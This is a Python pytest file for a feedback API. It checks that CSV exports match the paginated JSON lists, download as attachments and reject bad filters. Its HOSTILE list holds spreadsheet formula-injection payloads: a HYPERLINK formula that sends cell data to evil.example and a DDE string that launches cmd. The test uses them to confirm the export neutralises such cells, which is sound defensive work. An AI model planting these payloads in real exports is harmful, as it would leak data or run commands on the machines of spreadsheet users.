"""CSV exports: the rows are the JSON list's rows for the same filters (read through several pages), the
download is an attachment, and a cell that a spreadsheet would run as a formula comes out as text."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from fastapi.testclient import TestClient

from app.core import csv_export
from tests.support.api import auth

HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
TOUCHPOINTS = ["checkout-survey", "invoice-email", "first-box-nps", "payment-settings"]
WINDOW = {"since": "2026-09-01T00:00:00Z", "until": "2026-12-01T00:00:00Z", "bucket": "month"}


@pytest.fixture
def seeded(journey_client: TestClient, admin_key: str, monkeypatch: pytest.MonkeyPatch) -> TestClient:
    items = [
        {
            "source": "survey",
            "external_id": f"x-{n}",
            "text": HOSTILE[n] if n < len(HOSTILE) else f"problem number {n} with the box",
            "score": n % 11,
            "scale": "nps",
            "touchpoint": TOUCHPOINTS[n % len(TOUCHPOINTS)],
            "persona": ["family", "single"][n % 2],
            "customer_ref": f"c-{n}",
            "occurred_at": f"2026-{10 + n % 2}-{1 + n % 27:02d}T12:00:00Z",
        }
        for n in range(23)
    ]
    resp = journey_client.post("/api/v1/feedback/batch", json={"items": items}, headers=auth(admin_key))
    assert resp.status_code == 200, resp.text
    # Pages of three rows, so every export here is read in several pages.
    monkeypatch.setattr(csv_export, "PAGE", 3)
    return journey_client


def _csv(client: TestClient, key: str, path: str, params: dict[str, Any]) -> list[dict[str, str]]:
    resp = client.get(path, params=params, headers=auth(key))
    assert resp.status_code == 200, resp.text
    assert resp.headers["content-type"] == "text/csv; charset=utf-8"
    assert resp.headers["content-disposition"].startswith("attachment; filename=")
    return list(csv.DictReader(io.StringIO(resp.text)))


def _all_json(client: TestClient, key: str, path: str, params: dict[str, Any]) -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []
    cursor = None
    while True:
        page_params = {**params, "limit": 2, **({"cursor": cursor} if cursor else {})}
        resp = client.get(path, params=page_params, headers=auth(key))
        assert resp.status_code == 200, resp.text
        body = resp.json()
        out += body["items"]
        cursor = body["next_cursor"]
        if not cursor:
            return out


def _as_cell(value: Any) -> str:
    """What the JSON value reads as in the CSV (formula-looking text aside)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list):
        return ";".join(str(v) for v in value)
    if isinstance(value, dict):
        return json.dumps(value, sort_keys=True, ensure_ascii=False)
    return str(value)


def _same_rows(csv_rows: list[dict[str, str]], json_rows: list[dict[str, Any]]) -> None:
    assert len(csv_rows) == len(json_rows) > 0
    for got, want in zip(csv_rows, json_rows, strict=True):
        assert list(got) == list(want)
        assert got == {
            k: csv_export.neutralise(_as_cell(v)) if isinstance(v, str) else _as_cell(v)
            for k, v in want.items()
        }


@pytest.mark.parametrize(
    "params", [{}, {"stage": "pay"}, {"state": "placed", "since": "2026-11-01T00:00:00Z"}]
)
def test_feedback_csv_is_the_list(seeded: TestClient, admin_key: str, params: dict[str, Any]) -> None:
    rows = _csv(seeded, admin_key, "/api/v1/feedback.csv", params)
    want = _all_json(seeded, admin_key, "/api/v1/feedback", params)
    assert len(want) > csv_export.PAGE  # more than one page
    _same_rows(rows, want)


def test_formula_cells_come_out_as_text(seeded: TestClient, admin_key: str) -> None:
    rows = _csv(seeded, admin_key, "/api/v1/feedback.csv", {})
    texts = {r["external_id"]: r["text"] for r in rows}
    for n, hostile in enumerate(HOSTILE):
        assert texts[f"x-{n}"] == "'" + hostile
    assert not any(cell[:1] in "=+-@" for r in rows for cell in r.values() if cell and not _number(cell))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    "params", [{}, {"stage": "pay"}, {"sort": "age"}, {"sort": "recent", "status": "open"}]
)
def test_issues_csv_is_the_list(seeded: TestClient, admin_key: str, params: dict[str, Any]) -> None:
    rows = _csv(seeded, admin_key, "/api/v1/issues.csv", params)
    want = _all_json(seeded, admin_key, "/api/v1/issues", params)
    if not params:
        assert len(want) > csv_export.PAGE  # more than one page
    _same_rows(rows, want)


def test_persona_trends_and_stage_metrics_csv(seeded: TestClient, admin_key: str) -> None:
    params = {**WINDOW, "stage": "onboard"}
    rows = _csv(seeded, admin_key, "/api/v1/insights/personas.csv", params)
    body = seeded.get("/api/v1/insights/personas", params=params, headers=auth(admin_key)).json()
    want = [
        (s["persona"], s["moment"] or "", p["start"], str(p["n"]), _as_cell(p["value"]))
        for s in body["series"]
        for p in s["points"]
    ]
    assert want and [(r["persona"], r["moment"], r["start"], r["n"], r["value"]) for r in rows] == want

    rows = _csv(seeded, admin_key, "/api/v1/insights/stages/onboard/metrics.csv", WINDOW)
    body = seeded.get(
        "/api/v1/insights/stages/onboard/metrics", params=WINDOW, headers=auth(admin_key)
    ).json()
    want = [("score", c["start"], _as_cell(c["value"]), str(c["n"])) for c in body["scores"]]
    assert want and [(r["series"], r["start"], r["value"], r["n"]) for r in rows][: len(want)] == want


def test_bad_filters_get_a_problem_naming_the_field(seeded: TestClient, admin_key: str) -> None:
    for path, params, field in [
        ("/api/v1/feedback.csv", {"state": "nope"}, "state"),
        ("/api/v1/issues.csv", {"sort": "x"}, "sort"),
        ("/api/v1/insights/personas.csv", {"stage": "nowhere"}, "stage"),
        ("/api/v1/feedback.csv", {"limit": "5"}, "limit"),
    ]:
        resp = seeded.get(path, params=params, headers=auth(admin_key))
        assert resp.status_code in (400, 422), (path, resp.text)
        assert resp.headers["content-type"] == "application/problem+json"
        assert field in json.dumps(resp.json()["errors"]), resp.text
